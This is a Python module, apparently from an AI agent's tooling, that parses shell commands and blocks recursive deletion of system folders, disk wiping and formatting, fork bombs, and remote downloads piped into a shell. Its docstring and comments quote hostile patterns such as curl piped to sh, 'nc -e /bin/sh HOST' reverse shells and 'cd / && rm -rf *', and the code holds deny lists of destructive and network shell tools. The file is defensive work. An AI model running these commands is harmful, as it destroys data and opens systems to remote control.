"""Hardline blocklist for shell commands.

Every command that ``exec`` or ``process_write`` would hand to a shell passes
:func:`check_hardline` before the permission policy, so no permission mode,
reviewer or human approval can let these through:

* recursive destruction of ``/``, the home directory or a top-level system
  folder: ``rm -r``, ``find ... -delete`` (or ``-exec rm``), ``rsync --delete``,
  ``chmod -R``/``chown -R``/``chgrp -R``, ``mv`` of such a folder;
* ``mkfs`` and friends on a device or a target that may be one (an image file
  such as ``disk.img`` is fine), partitioners, and other disk writers on a device
  (``dd``, ``cp``, ``shred``, ``wipefs``, ``blkdiscard``, ``cryptsetup
  luksFormat``, ``nvme format``, ``hdparm --security-erase``, LVM, ZFS, mdadm);
  a shell redirect onto a disk device;
* fork bombs;
* a download from a non-loopback host (curl, wget, nc, socat, ``/dev/tcp`` or a
  file descriptor opened on it, an interpreter's one-liner fetching a URL...) that
  reaches something running it as a program: piped into a shell or interpreter at
  any later stage of the pipeline, even through filters (``curl URL | base64 -d |
  sh``), wrappers or ``xargs`` (``curl URL | xargs sh -c``), code reading stdin
  (``bash -c "$(cat)"``, ``while read l; do eval "$l"; done``), inline code that
  evaluates its input (``python3 -c 'exec(sys.stdin.read())'``, ``awk
  '{system($0)}'``) or ``tee >(sh)`` (see :mod:`habakkuk.tools.hardline_sinks`);
  or given to one directly (``bash <(curl ...)``, ``sh -c "$(curl ...)"``,
  ``sh <&3`` after ``exec 3<>/dev/tcp/...``, ``nc -e /bin/sh HOST``, ``socat
  TCP:HOST:PORT EXEC:sh``). A download saved to a file and run later is left to
  the permission policy.

This is a guard against a confused or manipulated model, not a sandbox: it
reads the command the way a shell would (:mod:`habakkuk.tools.shell_syntax`:
quotes, operators, substitutions, brace expansion, wrappers such as ``sudo``,
``env``, ``xargs`` or ``chroot``) so that text merely passed as data, like the
argument of ``echo``, is not mistaken for a command. Anything it cannot see
through (variables, scripts on disk) is left to the permission policy.
"""

from __future__ import annotations

import functools
import ipaddress
import itertools
import os
import posixpath
import re
from collections.abc import Set as AbstractSet
from dataclasses import dataclass
from urllib.parse import urlsplit

from habakkuk.tools.hardline_sinks import (
    evaluates_lines,
    output_sink,
    program_sink,
    resolved_command,
    runs_stdin,
)
from habakkuk.tools.shell_syntax import (
    SHELLS,
    Element,
    Group,
    Pipeline,
    SimpleCommand,
    Word,
    basename,
    invocation,
    is_interpreter,
    parse,
    shell_code,
    simple_commands,
)

__all__ = ["check_hardline"]

# Nesting bound for sh -c / eval / substitutions: deeper text is not examined
# further, which only matters for deliberately obfuscated input.
_MAX_DEPTH = 12
_OUTPUT_REDIRS = {">", ">>", ">|", "&>", "&>>", "<>", ">&"}


def _w(text: str) -> set[str]:
    """A set from whitespace-separated words (keeps option tables compact)."""
    return set(text.split())


_resolved = resolved_command  # the command a simple command runs (cached)


# ---------------------------------------------------------------------------
# Paths: what recursive destruction must never touch.
# ---------------------------------------------------------------------------

_HOME_SENTINEL = "\x00home"
_TOP_LEVEL = {
    "bin", "boot", "dev", "efi", "etc", "home", "lib", "lib32", "lib64", "libx32",
    "lost+found", "media", "mnt", "nix", "opt", "proc", "root", "run", "sbin", "snap",
    "srv", "sys", "tmp", "usr", "var",
    # macOS
    "Applications", "Library", "System", "Users", "Volumes", "private", "cores",
}  # fmt: skip
_SECOND_LEVEL = {
    "usr/bin", "usr/sbin", "usr/lib", "usr/lib32", "usr/lib64", "usr/libexec",
    "usr/include", "usr/share", "usr/local", "usr/src", "var/lib", "var/log",
    "System/Library", "private/etc", "private/var", "private/tmp",
}  # fmt: skip
# Scratch folders: removing the folder is blocked, emptying it ("/tmp/*") is routine.
_SCRATCH = {"tmp", "private/tmp"}
_GLOB_CHARS = set("*?[")
_PURE_GLOB = re.compile(r"[.*?\[\]!^]*[*?][.*?\[\]!^]*")
_HOME_PREFIX = re.compile(r"(?:~[A-Za-z0-9_.-]*|\$HOME|\$\{HOME\})(?=/|$)")


def _absolute(value: str, cwd: str | None) -> str | None:
    """Absolute form of a path word, home spelled as the sentinel; None if unknowable."""
    m = _HOME_PREFIX.match(value)
    if m:
        path = "/" + _HOME_SENTINEL + value[m.end() :]
    elif value.startswith("/"):
        path = value
    elif cwd is not None and "$" not in value and "`" not in value:
        path = cwd + "/" + value
    else:
        return None
    if "$" in path or "`" in path:
        return None
    path = re.sub(r"/+", "/", path)
    return posixpath.normpath(path) if path != "/" else "/"


def _real_home() -> str | None:
    home = os.path.expanduser("~")
    if not home.startswith("/"):
        return None
    return re.sub(r"/+", "/", home).rstrip("/") or "/"


def _protected(value: str, cwd: str | None) -> bool:
    """Whether destroying this path recursively would hit /, a home or a system folder."""
    path = _absolute(value, cwd)
    if path is None:
        return False
    parts = [p for p in path.split("/") if p]
    emptied = False
    while parts and _PURE_GLOB.fullmatch(parts[-1]):
        parts.pop()  # "dir/*" empties dir: as bad as removing it
        emptied = True
    if not parts:
        return True
    if _GLOB_CHARS & set(parts[0]):
        return True  # a glob at the top level can match system folders
    joined = "/".join(parts)
    if joined in _SCRATCH:
        return not emptied
    if len(parts) == 1 and (parts[0] in _TOP_LEVEL or parts[0] == _HOME_SENTINEL):
        return True
    if joined in _SECOND_LEVEL:
        return True
    if len(parts) == 2 and parts[0] in ("home", "Users"):
        return True
    return "/" + joined == _real_home()


def _first_protected(values: list[str], cwd: str | None) -> str | None:
    return next((v for v in values if _protected(v, cwd)), None)


def _update_cwd(argv: list[Word], cwd: str | None) -> str | None:
    """Track `cd` so that `cd / && rm -rf *` is seen for what it is."""
    args = [w.value for w in argv[1:]]
    while args and args[0].startswith("-") and args[0] != "-":
        args.pop(0)
    if not args:
        return "/" + _HOME_SENTINEL
    if args[0] == "-":
        return None
    return _absolute(args[0], cwd)


def _goes_down(argv: list[Word]) -> bool:
    """Whether `cd` goes into a subfolder by a relative path (`cd build`, not `cd ..`,
    `cd -` or `cd "$DIR"`): where it lands is below where the command started."""
    args = [w.value for w in argv[1:] if not w.value.startswith("-") or w.value == "-"]
    if not args:
        return True
    target = args[0]
    if target == "-" or "$" in target or "`" in target or target.startswith(("/", "~")):
        return False
    return ".." not in target.split("/")


@dataclass
class _State:
    """What a script's earlier commands tell about its later ones."""

    cwd: str | None = None  # where `cd` went (None: where the command started, or unknown)
    cwd_lost: bool = False  # a `cd` went somewhere that cannot be read (`cd "$DIR"`)
    # The script opens a socket on /dev/tcp to a remote host (a download's description):
    # a file descriptor dup'd into stdin (`<&3`, `0>&1`) or /dev/fd/N may read from it.
    net: str | None = None
    lines_evaluated: bool = False  # it runs a variable as code (eval "$l"): see `read`


def _operands(
    args: list[str], arg_opts: AbstractSet[str] = frozenset()
) -> tuple[set[str], list[str]]:
    """Options (long ones without their =value) and operands, honouring `--`."""
    options: set[str] = set()
    operands: list[str] = []
    i = 0
    while i < len(args):
        v = args[i]
        i += 1
        if v == "--":
            operands += args[i:]
            break
        if v.startswith("-") and len(v) > 1:
            options.add(v.split("=", 1)[0] if v.startswith("--") else v)
            if v in arg_opts:
                i += 1
            continue
        operands.append(v)
    return options, operands


def _has_flag(options: set[str], short: str, long: tuple[str, ...] = ()) -> bool:
    """Whether a short flag (also inside a cluster like -rf) or a long form (prefix ok) is set."""
    for o in options:
        if o.startswith("--"):
            if any(len(o) > 2 and lf.startswith(o[2:]) for lf in long):
                return True
        elif short in o[1:]:
            return True
    return False


# ---------------------------------------------------------------------------
# Recursive destruction: rm, find, rsync, chmod/chown, mv.
# ---------------------------------------------------------------------------


def _check_rm(name: str, args: list[str], state: _State) -> str | None:
    options, operands = _operands(args)
    if not (_has_flag(options, "r", ("recursive",)) or _has_flag(options, "R")):
        return None
    target = _first_protected(operands, state.cwd)
    if target is not None:
        return f"recursive {name} of {target!r} (root, home or a system folder) is blocked"
    return None


_FIND_GLOBAL_OPTS = {"-H", "-L", "-P"}
# Tests that narrow what find matches to some names: with one, a -delete is a cleanup.
_FIND_NAME_TESTS = _w(
    "-name -iname -path -ipath -wholename -iwholename -regex -iregex -lname -ilname"
    " -samefile -inum -empty -newer -user -links"
)
_FIND_EXEC = {"-exec", "-execdir", "-ok", "-okdir"}
_REMOVERS = {"rm", "srm", "shred", "unlink"}


def _find_parts(args: list[Word]) -> tuple[list[str], list[Word]]:
    """find's starting points (default '.') and its expression."""
    i = 0
    while i < len(args) and (
        args[i].value in _FIND_GLOBAL_OPTS or args[i].value[:2] in ("-D", "-O")
    ):
        i += 2 if args[i].value == "-D" else 1
    paths: list[str] = []
    while i < len(args) and not args[i].value.startswith(("-", "(", "!", ",")):
        paths.append(args[i].value)
        i += 1
    return paths or ["."], args[i:]


def _find_exec_commands(expr: list[Word]) -> list[list[Word]]:
    """The argvs of -exec/-execdir/-ok actions (up to ';' or '+')."""
    commands: list[list[Word]] = []
    i = 0
    while i < len(expr):
        if expr[i].value in _FIND_EXEC:
            j = i + 1
            while j < len(expr) and expr[j].value not in (";", "+"):
                j += 1
            if j > i + 1:
                commands.append(expr[i + 1 : j])
            i = j
        i += 1
    return commands


def _min_depth(expr: list[str]) -> int:
    for k, v in enumerate(expr[:-1]):
        if v == "-mindepth" and expr[k + 1].isdigit():
            return int(expr[k + 1])
    return 0


def _check_find(args: list[Word], simple: SimpleCommand, state: _State, depth: int) -> str | None:
    paths, expr = _find_parts(args)
    execs = _find_exec_commands(expr)
    for argv in execs:
        reason = _check_argv(argv, simple, state, depth)
        if reason:
            return reason
    values = [w.value for w in expr]
    deletes = "-delete" in values or any(basename(a[0].value) in _REMOVERS for a in execs)
    if not deletes:
        return None
    narrowed = any(
        v in _FIND_NAME_TESTS and (k == 0 or values[k - 1] not in ("!", "-not"))
        for k, v in enumerate(values)
    )
    if narrowed:
        return None
    # With -mindepth 1 the starting points stay but are emptied, as bad for / or a home.
    emptied = _min_depth(values) >= 1
    target = next(
        (p for p in paths if _protected(p.rstrip("/") + "/*" if emptied else p, state.cwd)), None
    )
    if target is not None:
        return (
            f"find deleting everything under {target!r} (root, home or a system folder) is blocked"
        )
    return None


_RSYNC_ARG_OPTS = _w(
    "-e --rsh -f --filter --exclude --include --exclude-from --include-from --files-from"
    " --log-file --password-file --port --bwlimit --backup-dir --suffix -T --temp-dir"
    " --compare-dest --copy-dest --link-dest --chmod --chown --timeout --max-size --min-size"
    " --partial-dir -M --remote-option --info --debug --out-format --usermap --groupmap"
    " --rsync-path --max-delete --modify-window --block-size -B --iconv"
)


def _remote_path(value: str) -> str:
    """The path part of an rsync/scp operand (host:path, user@host:path, rsync://host/path)."""
    if value.startswith("rsync://"):
        rest = value[len("rsync://") :]
        return "/" + rest.split("/", 1)[1] if "/" in rest else "/"
    m = re.match(r"[^/:]+::?(.*)", value)
    if m and not value.startswith("/"):
        return m.group(1) or "~"
    return value


def _check_rsync(args: list[str], state: _State) -> str | None:
    options, operands = _operands(args, _RSYNC_ARG_OPTS)
    if len(operands) < 2:
        return None
    *sources, dest = [_remote_path(v) for v in operands]
    # Deleting what the source lacks empties the destination, like rm -rf DEST/*.
    deletes = any(o.startswith("--del") for o in options)
    if deletes and _protected(dest.rstrip("/") + "/*", state.cwd):
        return f"rsync --delete into {dest!r} (root, home or a system folder) is blocked"
    if "--remove-source-files" in options:
        target = _first_protected(sources, state.cwd)
        if target is not None:
            return f"rsync --remove-source-files of {target!r} is blocked"
    return None


_CHMOD_MODE = re.compile(r"[-+=][rwxXstugo]+(?:,[-+=]?[rwxXstugo]*)*")


def _check_recursive_attr(name: str, args: list[str], state: _State) -> str | None:
    """chmod/chown/chgrp/chattr/setfacl -R on a protected folder."""
    modes = [a for a in args if name == "chmod" and _CHMOD_MODE.fullmatch(a)]
    rest = [a for a in args if a not in modes]
    options, operands = _operands(rest, _w("--reference -m -x -M -X --modify --remove"))
    if not (_has_flag(options, "R", ("recursive",))):
        return None
    takes_spec = name in ("chmod", "chown", "chgrp", "chattr") and not modes
    if takes_spec and not any(o.startswith("--reference") for o in options):
        operands = operands[1:]  # the mode, owner, group or attributes
    target = _first_protected(operands, state.cwd)
    if target is not None:
        return f"recursive {name} of {target!r} (root, home or a system folder) is blocked"
    return None


def _check_mv(args: list[str], state: _State) -> str | None:
    options, operands = _operands(args, _w("-t --target-directory -S --suffix"))
    has_target = any(o in ("-t", "--target-directory") for o in options) or any(
        a.startswith(("-t", "--target-directory=")) and a != "-t" for a in args
    )
    sources = operands if has_target else operands[:-1]
    target = _first_protected(sources, state.cwd)
    if target is not None:
        return f"mv of {target!r} (root, home or a system folder) is blocked"
    return None


# ---------------------------------------------------------------------------
# Devices.
# ---------------------------------------------------------------------------

_DISK = re.compile(
    r"/dev/(?:(?:sd|hd|vd|xvd)[a-z]|nvme\d|mmcblk\d|r?disk\d|md\d|dm-\d|loop\d|nbd\d|sr\d"
    r"|mapper/|disk/|zd\d|vg|ada\d|da\d)"
)
_HARMLESS_DEV = re.compile(
    r"/dev/(?:null|zero|full|u?random|stdin|stdout|stderr|tty|ptmx|fd/.*|pts/.*|shm/.*)"
)


def _norm_dev(value: str) -> str:
    return re.sub(r"/+", "/", value)


def _is_disk(value: str) -> bool:
    return _DISK.match(_norm_dev(value)) is not None


def _is_device(value: str) -> bool:
    path = _norm_dev(value)
    return path.startswith("/dev/") and not _HARMLESS_DEV.fullmatch(path)


def _first_device(values: list[str]) -> str | None:
    return next((v for v in values if _is_device(v)), None)


_MKFS = re.compile(
    r"mkfs(?:\..+)?|mke2fs|mke4fs|mkswap|mkdosfs|mkexfatfs|mkntfs|mkfs_\w+|newfs(?:_\w+)?"
    r"|mkudffs|mkreiserfs|mkjfs|mkhfs"
)
_PARTITIONERS = {"fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "cgdisk", "parted", "blkdiscard"}
_PARTITION_READ_ONLY = {
    "fdisk": {"-l", "--list", "-x", "--list-details"},
    "sfdisk": _w(
        "-l --list -d --dump -s --show-size -J --json -V --verify -F --list-free -g --show-geometry"
    ),
    "gdisk": {"-l"},
    "sgdisk": _w("-p --print -i --info -v --verify -O --print-mbr -L --list-types"),
    "parted": {"-l", "--list"},
}
_PARTED_READ_ONLY_WORDS = {"print", "p", "unit", "help", "free", "list", "all", "devices",
                           "s", "b", "kb", "mb", "gb", "tb", "kib", "mib", "gib", "tib",
                           "%", "cyl", "chs", "compact"}  # fmt: skip
_DISKUTIL_DESTRUCTIVE = {"erasedisk", "erasevolume", "zerodisk", "randomdisk", "secureerase",
                         "partitiondisk", "reformat"}  # fmt: skip
_CRYPTSETUP_DESTRUCTIVE = _w("luksformat erase lukserase reencrypt lukskillslot luksremovekey")
_NVME_DESTRUCTIVE = _w("format sanitize delete-ns write-zeroes write-uncor dsm write")
_HDPARM_DESTRUCTIVE = _w(
    "--security-erase --security-erase-enhanced --security-set-pass --trim-sector-ranges"
    " --trim-sector-ranges-stdin --write-sector --make-bad-sector --dco-restore --dco-setmax"
    " --yes-i-know-what-i-am-doing --please-destroy-my-drive"
)
_LVM_DESTRUCTIVE = _w("pvcreate pvremove vgcreate vgremove lvremove lvreduce")
_ZPOOL_DESTRUCTIVE = _w("create destroy labelclear add replace")
_MDADM_DESTRUCTIVE = _w("--create -C --zero-superblock --build -B")
_DD_LIKE = {"dd", "dcfldd", "dc3dd"}
# Programs whose last operand is the file they write.
_COPIERS = {"cp", "install", "mv", "ln"}


def _check_partitioner(name: str, args: list[str]) -> str | None:
    devices = [a for a in args if _is_device(a)]
    if not devices:
        return None
    options = {a for a in args if a.startswith("-")}
    read_only = _PARTITION_READ_ONLY.get(name, set())
    if name == "parted":
        # parted takes its commands as words after the device: allow only "print" and kin.
        rest = {a.lower() for a in args if a not in devices and not a.startswith("-")}
        if options & read_only or (rest and rest <= _PARTED_READ_ONLY_WORDS):
            return None
    elif name in ("fdisk", "gdisk"):
        if options & read_only:  # -l lists and exits whatever else is given
            return None
    elif options and options <= read_only:
        return None
    return f"{name} on device {devices[0]} is blocked (it rewrites the disk)"


def _format_target(value: str, state: _State) -> str | None:
    """Why formatting `value` may hit a device ("a device", "it may be a device"), or None.

    /dev, /proc and /sys paths are devices (or may be); so is a target that cannot be
    read (a variable, a glob at the top level, a relative path after `cd "$DIR"`).
    Any other path is a file: formatting an image file such as disk.img is routine.
    """
    home = _HOME_PREFIX.match(value)
    rest = value[home.end() :] if home else value
    if "$" in rest or "`" in rest:
        return "it may be a device"
    if home:
        return None
    if value.startswith("/"):
        path = value
    elif state.cwd is not None:
        path = state.cwd + "/" + value
    elif state.cwd_lost:
        return "it may be a device"
    else:
        return None  # relative to where the command runs: a workspace, not /dev
    parts = posixpath.normpath(re.sub(r"/+", "/", path)).split("/")
    top = parts[1] if len(parts) > 1 else ""
    if _GLOB_CHARS & set(top):
        return "it may be a device"
    if top in ("dev", "proc", "sys") or not top:
        return "a device"
    return None


def _check_mkfs(name: str, args: list[str], state: _State) -> str | None:
    """mkfs and friends: refused on a device or a target that may be one."""
    _, operands = _operands(args)
    if not operands:
        return f"{name} with no target is blocked (it formats a device)"
    for value in operands:
        risk = _format_target(value, state)
        if risk:
            return f"{name} on {value} is blocked ({risk}; it destroys a filesystem)"
    return None


def _check_disk_tool(name: str, values: list[str]) -> str | None:
    """Programs that erase, format or overwrite a disk, by name and subcommand."""
    options, operands = _operands(values)
    lowered = [v.lower() for v in operands]
    if name in _PARTITIONERS:
        return _check_partitioner(name, values)
    if name in ("shred", "scrub", "sg_format", "sg_sanitize"):
        dev = _first_device(values)
        return f"{name} on device {dev} is blocked" if dev else None
    if name in _DD_LIKE:
        for v in values:
            if v.startswith(("of=", "vf=")) and _is_disk(v[3:]):
                return f"{name} onto disk device {v[3:]} is blocked"
        return None
    if name == "tee":
        dev = next((v for v in values if _is_disk(v)), None)
        return f"tee onto disk device {dev} is blocked" if dev else None
    if name in _COPIERS and operands and _is_disk(operands[-1]):
        return f"{name} onto disk device {operands[-1]} is blocked"
    if name == "ddrescue" and len(operands) >= 2 and _is_disk(operands[1]):
        return f"ddrescue onto disk device {operands[1]} is blocked"  # INFILE OUTFILE [MAPFILE]
    if name == "wipefs":
        erases = _has_flag(options, "a", ("all",)) or _has_flag(options, "o", ("offset",))
        if erases and not _has_flag(options, "n", ("no-act",)):
            return "wipefs is blocked (it erases filesystem signatures)"
        return None
    if name == "cryptsetup":
        action = next((v for v in lowered if v in _CRYPTSETUP_DESTRUCTIVE), None)
        return f"cryptsetup {action} is blocked (it destroys the volume's data)" if action else None
    if name == "nvme" and lowered and lowered[0] in _NVME_DESTRUCTIVE:
        return f"nvme {lowered[0]} is blocked (it erases or overwrites the drive)"
    if name == "hdparm":
        flag = next((o for o in options if o in _HDPARM_DESTRUCTIVE), None)
        return f"hdparm {flag} is blocked (it erases or damages the drive)" if flag else None
    if name in _LVM_DESTRUCTIVE and operands:
        return f"{name} is blocked (it overwrites or removes LVM volumes)"
    if name == "zpool" and lowered and lowered[0] in _ZPOOL_DESTRUCTIVE:
        return f"zpool {lowered[0]} is blocked (it overwrites or destroys a pool)"
    if name == "zfs" and lowered and lowered[0] == "destroy":
        return "zfs destroy is blocked"
    if name == "mdadm" and options & _MDADM_DESTRUCTIVE:
        return (
            "mdadm " + sorted(options & _MDADM_DESTRUCTIVE)[0] + " is blocked (it overwrites disks)"
        )
    if name == "badblocks" and _has_flag(options, "w") and _first_device(values):
        return "badblocks -w is blocked (its write test erases the disk)"
    if name == "diskutil" and lowered and lowered[0] in _DISKUTIL_DESTRUCTIVE:
        return f"diskutil {operands[0]} is blocked"
    return None


# ---------------------------------------------------------------------------
# Downloads: what brings remote bytes in.
# ---------------------------------------------------------------------------

_DOWNLOADERS: dict[str, set[str]] = {
    "curl": {"-o", "--output", "-H", "--header", "-d", "--data", "--data-raw", "--data-binary",
             "--data-urlencode", "-X", "--request", "-u", "--user", "-A", "--user-agent", "-e",
             "--referer", "-x", "--proxy", "-b", "--cookie", "-c", "--cookie-jar", "-F",
             "--form", "-T", "--upload-file", "-w", "--write-out", "-m", "--max-time",
             "--connect-timeout", "--retry", "-r", "--range", "-K", "--config", "-E", "--cert",
             "--key", "--cacert", "--resolve", "--connect-to", "-C", "--continue-at",
             "--retry-delay", "--retry-max-time", "-Y", "-y", "-z", "--output-dir"},
    "wget": {"-O", "--output-document", "-o", "--output-file", "-a", "--append-output", "-P",
             "--directory-prefix", "-U", "--user-agent", "-e", "--execute", "-t", "--tries",
             "-T", "--timeout", "-w", "--wait", "--header", "--user", "--password", "-i",
             "--input-file", "-Q", "--quota", "--referer", "--post-data", "--body-data"},
    "wget2": {"-O", "--output-document", "-o", "--output-file", "-P", "-U", "--header", "-e"},
    "fetch": {"-o", "-T", "-N", "-S"},
    "http": {"-a", "--auth", "-o", "--output", "--session"},
    "https": {"-a", "--auth", "-o", "--output", "--session"},
    "xh": {"-a", "--auth", "-o", "--output", "--session"},
    "curlie": {"-o", "--output", "-H", "--header", "-d", "--data", "-X", "--request"},
    "aria2c": {"-o", "--out", "-d", "--dir"},
    "lwp-request": {"-m", "-c", "-H"},
    "GET": {"-m", "-c", "-H"},
    "lynx": set(),
    "links": set(),
    "elinks": set(),
    "w3m": set(),
}  # fmt: skip
_URL_LONG_OPTS = {"--url"}
_HOSTLIKE = re.compile(
    r"(\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)+|localhost)(:\d+)?(/.*)?"
)
_NETCATS = {"nc", "ncat", "netcat", "telnet"}
_NETCAT_ARG_OPTS = _w(
    "-p -s -w -q -i -x -X -P -I -O -T -V -e -c -W -M -m --source --proxy"
    " --exec --sh-exec --lua-exec"
)
_SOCAT_CONNECT = re.compile(
    r"(?:tcp[46]?|udp[46]?|openssl|ssl|sctp[46]?)(?:-connect)?:([^,]+?):\d+", re.I
)
_SOCAT_LISTEN = re.compile(r"(?:tcp[46]?|udp[46]?|openssl|ssl|sctp[46]?)-listen:", re.I)
_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/]+)/")
# A path naming an open file descriptor other than stdin (/dev/fd/3, /proc/self/fd/1).
_FD_PATH = re.compile(r"/+(?:dev/+fd|proc/+(?:self|\d+)/+fd)/+(?!0$)\d+")
# A URL in an interpreter's inline code (python -c "...urlopen('https://...')").
_CODE_URL = re.compile(r"\b(?:https?|ftps?)://(\[[0-9A-Fa-f:.]+\]|[^/\s'\"`:?#)\\]+)")
# nc/ncat options running a program on the connection: True when it is shell code.
_NETCAT_EXEC = {"-e": False, "--exec": False, "--lua-exec": False, "-c": True, "--sh-exec": True}
_SOCAT_EXEC = re.compile(r"(exec|system):(.*)", re.I)


def _is_loopback_host(host: str) -> bool:
    host = host.strip("[]").rstrip(".").lower()
    if host == "localhost" or host.endswith(".localhost"):
        return True
    try:
        addr = ipaddress.ip_address(host.split("%", 1)[0])
    except ValueError:
        return False
    if isinstance(addr, ipaddress.IPv6Address) and addr.ipv4_mapped is not None:
        addr = addr.ipv4_mapped
    return addr.is_loopback


def _url_host(value: str) -> str | None:
    """Host of a URL-ish downloader argument, or None when it does not look like one."""
    if "://" in value:
        try:
            host = urlsplit(value).hostname
        except ValueError:
            return value
        return host or value
    m = _HOSTLIKE.fullmatch(value)
    return m.group(1) if m else None


def _verdict(name: str, hosts: list[str], opaque: bool) -> str | None:
    remote = [h for h in hosts if not _is_loopback_host(h)]
    if remote:
        return f"{name} from {remote[0]}"
    if hosts and not opaque:
        return None
    # No host we can read (e.g. "$URL"): it cannot be shown to be loopback.
    return f"{name} from an unverifiable host"


def _url_download(name: str, args: list[str], arg_opts: set[str]) -> str | None:
    hosts: list[str] = []
    opaque = False
    i = 0
    while i < len(args):
        a = args[i]
        i += 1
        if a in _URL_LONG_OPTS and i < len(args):
            a = args[i]
            i += 1
        elif a.startswith("--url="):
            a = a.split("=", 1)[1]
        elif a.startswith("-") and a != "-":
            if a in arg_opts:
                i += 1
            continue
        host = _url_host(a)
        if host is not None:
            hosts.append(host)
        elif "$" in a or "`" in a:
            opaque = True
    return _verdict(name, hosts, opaque)


def _netcat_download(name: str, args: list[str]) -> str | None:
    options, operands = _operands(args, _NETCAT_ARG_OPTS)
    if _has_flag(options, "l", ("listen",)):
        return f"{name} listening for anyone"
    if not operands:
        return None
    host = operands[0]
    return _verdict(name, [host], "$" in host or "`" in host)


def _socat_download(args: list[str]) -> str | None:
    for a in args:
        if _SOCAT_LISTEN.match(a):
            return "socat listening for anyone"
        m = _SOCAT_CONNECT.match(a)
        if m:
            return _verdict("socat", [m.group(1)], "$" in a)
    return None


def _socket_opened(text: str) -> str | None:
    """A socket the script opens on /dev/tcp (or /dev/udp) to a remote host, described."""
    for m in _DEV_TCP.finditer(text):
        found = _verdict("/dev/tcp", [m.group(1)], "$" in m.group(1))
        if found:
            return found
    return None


def _fd_read(value: str, net: str | None) -> str | None:
    """/dev/fd/N in a script that opened a remote socket: the socket, maybe."""
    return net if net and _FD_PATH.fullmatch(value) else None


def _code_download(name: str, argv: list[Word]) -> str | None:
    """An interpreter's inline code that names a remote URL: it fetches from there."""
    if name in SHELLS or not is_interpreter(name):
        return None
    inv = invocation(argv)
    if inv is None or inv.code is None:
        return None
    hosts = [m.group(1) for m in _CODE_URL.finditer(inv.code.value)]
    return _verdict(f"{name} code fetching", hosts, False) if hosts else None


def _download_target(argv: list[Word], net: str | None = None) -> str | None:
    """For a command that fetches remote bytes, a description of the source, else None."""
    name = basename(argv[0].value)
    args = [w.value for w in argv[1:]]
    found = next((f for a in args if (f := _fd_read(a, net))), None)
    if found:
        return found
    arg_opts = _DOWNLOADERS.get(name)
    if arg_opts is not None:
        return _url_download(name, args, arg_opts)
    if name in _NETCATS:
        return _netcat_download(name, args)
    if name == "socat":
        return _socat_download(args)
    if name == "openssl" and args[:1] == ["s_client"]:
        target = next((b for a, b in itertools.pairwise(args) if a == "-connect"), None)
        target = target or next((a for a in args[1:] if not a.startswith("-")), "")
        return _verdict("openssl s_client", [target.rsplit(":", 1)[0]] if target else [], True)
    return _code_download(name, argv)


def _check_network_exec(name: str, args: list[str]) -> str | None:
    """nc -e /bin/sh HOST PORT, socat TCP:HOST:PORT EXEC:sh: a shell or interpreter run
    on what the network sends (a reverse or bind shell)."""
    runner: str | None = None
    source: str | None = None
    if name in _NETCATS:
        for a, b in itertools.pairwise([*args, ""]):
            key, eq, value = a.partition("=")
            if key in _NETCAT_EXEC:
                runner = _runner(value if eq else b, shell=_NETCAT_EXEC[key])
                if key == "--lua-exec":
                    runner = "lua"
        source = _netcat_download(name, args) if runner else None
    elif name == "socat":
        for a in args:
            m = _SOCAT_EXEC.fullmatch(a)
            if m:
                runner = _runner(m.group(2).split(",")[0], shell=m.group(1).lower() == "system")
        source = _socat_download(args) if runner else None
    if runner and source:
        return f"running what the network sends ({source}) with {runner} is blocked"
    return None


def _runner(command: str, *, shell: bool) -> str | None:
    """What runs the connection's input as a program: `command` is shell code (`shell`)
    or a program and its arguments; None when it only handles it as data (`cat`)."""
    if shell:
        return runs_stdin(command, 1)
    words = command.split()
    program = basename(words[0]) if words else ""
    return program if is_interpreter(program) else None


def _redirect_download(simple: SimpleCommand, net: str | None = None) -> str | None:
    """Input read from bash's /dev/tcp/HOST/PORT: a network download. With `net` (the
    script opened a remote socket), also stdin dup'd from another descriptor (`<&3`,
    `0>&1`): that descriptor may be the socket."""
    for r in simple.redirects:
        if r.target is None:
            continue
        target = _norm_dev(r.target.value)
        if r.op in ("<", "<>"):
            m = _DEV_TCP.match(target)
            if m:
                return _verdict("/dev/tcp", [m.group(1)], "$" in m.group(1))
            if _fd_read(target, net):
                return net
        if net and r.op in ("<&", ">&") and r.sets_stdin and target not in ("0", "-"):
            return net
    return None


@functools.lru_cache(maxsize=256)
def _text_download(text: str, depth: int, net: str | None = None) -> str | None:
    """A non-loopback download anywhere in the command text (including nested substitutions)."""
    if depth > _MAX_DEPTH:
        return None
    for pipeline in parse(text):
        for element in pipeline.commands:
            found = _element_download(element, depth, net)
            if found:
                return found
    return None


def _element_download(element: Element, depth: int, net: str | None = None) -> str | None:
    for simple in simple_commands(element):
        found = _redirect_download(simple, net)
        if found:
            return found
        resolved = _resolved(simple)
        if resolved is not None:
            for code in resolved.extra_code:
                found = _text_download(code, depth + 1, net)
                if found:
                    return found
            if resolved.argv:
                found = _download_target(resolved.argv, net)
                if found:
                    return found
                nested = shell_code(resolved.argv)
                if nested is not None:
                    found = _text_download(nested.value, depth + 1, net)
                    if found:
                        return found
        for w in simple.words:
            # $(curl ...) and <(curl ...): what they fetch is in this command's output
            for inner in w.inner_texts():
                found = _text_download(inner, depth + 1, net)
                if found:
                    return found
    return None


def _stdin_download(simple: SimpleCommand, depth: int, net: str | None = None) -> str | None:
    """A download fed to the command's stdin by redirection (`bash < <(curl ..)`, `<<<`)."""
    found = _redirect_download(simple, net)
    if found:
        return found
    for r in simple.redirects:
        if r.op in ("<", "<<<") and r.target is not None:
            for inner in r.target.inner_texts():
                found = _text_download(inner, depth + 1, net)
                if found:
                    return found
    return None


def _word_download(word: Word | None, depth: int, net: str | None = None) -> str | None:
    if word is None:
        return None
    found = _fd_read(word.value, net)  # sh /dev/fd/3
    if found:
        return found
    for inner in word.inner_texts():
        found = _text_download(inner, depth + 1, net)
        if found:
            return found
    return None


# ---------------------------------------------------------------------------
# Fork bombs.
# ---------------------------------------------------------------------------

_FUNC_NAME = r"[^\s(){}<>;|&'\"`$=]+"
_FUNC_DEF = re.compile(
    # The name must start at a boundary, or a long word would cost quadratic time.
    rf"(?:\bfunction\s+)?(?<![^\s;&|(){{}}])(?P<a>{_FUNC_NAME})\s*\(\s*\)\s*\{{(?P<ba>[^{{}}]*)\}}"
    rf"|\bfunction\s+(?P<b>{_FUNC_NAME})\s*\{{(?P<bb>[^{{}}]*)\}}"
)
_QUOTED = re.compile(r"'[^']*'|\"(?:\\.|[^\"\\])*\"")
_BEFORE = r"(?<![^\s;&|({])"
